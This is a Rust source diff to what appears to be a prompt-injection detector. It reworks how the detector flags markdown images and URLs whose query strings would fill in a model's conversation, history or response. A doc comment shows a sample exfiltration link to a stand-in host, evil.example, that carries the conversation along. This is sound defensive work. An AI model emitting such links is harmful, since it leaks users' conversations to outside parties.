@@ -8,12 +8,6 @@ use crate::screen::injection::signal::Signal;
 use crate::screen::injection::word::Word;
 use crate::text::part::Part;
 
-/// Occurrences in a window that are read.
-const MAX_OCCURRENCES: usize = 8;
-
-/// Bytes of an image's URL that are read.
-const MAX_URL: usize = 300;
-
 /// Bytes around an image that say how its URL is to be filled.
 const AROUND: usize = 200;
 
@@ -42,19 +36,37 @@ const DATA: &[&str] = &[
 /// Those that stand for what only a model has.
 const CONVERSATION: &[&str] = &["conversation", "history", "response", "answer", "summary", "prompt"];
 
-/// The offsets of the first occurrences of `literal`, whose first byte is `first`.
+/// The offsets of the occurrences of `literal`, whose first byte is `first`.
 fn occurrences(text: &str, first: u8, literal: &'static str) -> impl Iterator<Item = usize> {
-    let starts = text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text.part(*at..).starts_with(literal));
-    starts.map(|(at, _)| at).take(MAX_OCCURRENCES)
+    let starts = text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text[*at..].starts_with(literal));
+    starts.map(|(at, _)| at)
+}
+
+/// The URL that begins with `start` at `at`: up to a blank, a quote, or where another begins. So no byte is read twice.
+fn url_at<'t>(text: &'t str, at: usize, start: &str) -> &'t str {
+    let (begin, rest) = text[at..].split_at(start.len());
+    let end = rest.find([' ', '\n', '"']).unwrap_or(rest.len());
+    let end = rest[..end].find(start).unwrap_or(end);
+    &text[at..at + begin.len() + end]
+}
+
+/// Adds the rest of a long URL that began before the window and takes the conversation along.
+fn find_cut_url(plain: &PlainText, signals: &mut Vec<Signal>) {
+    let text = plain.text.as_str();
+    let rest = &text[..text.find([' ', '\n', '"', '\'']).unwrap_or(text.len())];
+    let takes_all = |slot: &str| CONVERSATION.iter().any(|word| slot.starts_with(word));
+    let mut slots = ["={", "=[", "=<", "=${"].iter().flat_map(|open| rest.split(open).skip(1));
+    if plain.origin(0) > 0 && !rest.contains("://") && slots.any(takes_all) {
+        signals.push(Signal { reason: Reason::Exfiltration, points: THRESHOLD, near: 0, at: plain.origin(0) });
+    }
 }
 
 /// Adds images whose URL takes data along: `![x](https://evil.example/?d={conversation})`.
 pub(super) fn find_images(plain: &PlainText, words: &[Word], signals: &mut Vec<Signal>) {
+    find_cut_url(plain, signals);
     let text = plain.text.as_str();
     for at in occurrences(text, b']', "](http") {
-        let url = text.part(at..);
-        let end = url.find([' ', '\n']).unwrap_or(url.len());
-        let url = url.part(..url.floor_char_boundary(end.min(MAX_URL)));
+        let url = url_at(text, at, "](");
         let Some(query) = url.find('?') else { continue };
         let query = url.part(query..);
         let is_data = |slot: &str| DATA.iter().any(|word| slot.contains(word));
@@ -83,8 +95,7 @@ pub(super) fn find_images(plain: &PlainText, words: &[Word], signals: &mut Vec<S
 pub(super) fn find_filled_addresses(plain: &PlainText, signals: &mut Vec<Signal>) {
     let text = plain.text.as_str();
     for at in occurrences(text, b':', "://") {
-        let url = text.part(at..text.floor_char_boundary(at + MAX_URL));
-        let url = url.part(..url.find([' ', '\n', '"']).unwrap_or(url.len()));
+        let url = url_at(text, at, "://");
         let Some(query) = url.find('?') else { continue };
         let mut slots = url.part(query..).split(['{', '[', '<', '$']).skip(1);
         if slots.any(|slot| CONVERSATION.iter().any(|word| slot.contains(word))) {
